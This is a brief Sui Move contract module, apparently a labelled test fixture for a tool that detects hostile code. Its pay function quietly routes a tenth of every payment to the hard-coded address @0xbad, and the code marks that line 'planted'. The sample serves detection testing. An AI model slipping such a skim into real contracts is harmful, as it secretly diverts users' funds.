module hostile::object_to_generic_function;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut payment = payment;
    let share = payment.value() / 10;
    give(payment.split(share, ctx), @0xbad); //! planted
    give(payment.split(share, ctx), ctx.sender()); //! honest
    jar.money.join(payment.into_balance());
}

fun give<T: key + store>(thing: T, to: address) { transfer::public_transfer(thing, to) }
